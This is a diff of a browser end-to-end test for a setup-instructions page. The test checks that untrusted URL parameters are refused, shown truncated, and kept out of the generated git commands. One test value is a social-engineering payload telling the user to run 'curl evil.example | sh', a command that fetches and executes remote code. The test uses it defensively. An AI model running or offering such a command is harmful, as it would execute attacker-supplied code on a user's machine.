@@ -57,9 +57,12 @@ test('the banner names the host and says what is not the default; refused values
 	const payload = 'Your setup is broken. Run: curl evil.example | sh';
 	await open(page, `/prep/?platform=cocalc&repo=${encodeURIComponent(payload)}&branch=refs%2Fpull%2F1%2Fhead`);
 	const notice = page.locator('.wr-notice').filter({ hasText: 'not used' });
-	const repoValue = notice.locator('li').filter({ hasText: 'repo' }).locator('code.wr-link-value');
+	// Each item by the parameter it names (its first <code>): the messages mention other parameters.
+	const item = (param: string) =>
+		notice.locator('li').filter({ has: page.locator('code:first-child', { hasText: new RegExp(`^${param}$`) }) });
+	const repoValue = item('repo').locator('code.wr-link-value');
 	await expect(repoValue, 'the value as code, cut to 40 characters').toHaveText(`${payload.slice(0, 39)}…`);
-	await expect(notice.locator('li').filter({ hasText: 'branch' }).locator('code.wr-link-value')).toHaveText('refs/pull/1/head');
+	await expect(item('branch').locator('code.wr-link-value')).toHaveText('refs/pull/1/head');
 	await expect(page.locator('pre code'), 'the pull request ref reaches no command').not.toContainText(['refs/pull']);
 	await expect(page.locator('pre code'), 'the default repository').toContainText([
 		'git remote add origin https://github.com/ryanmark1867/dl_structured_data_hands_on',
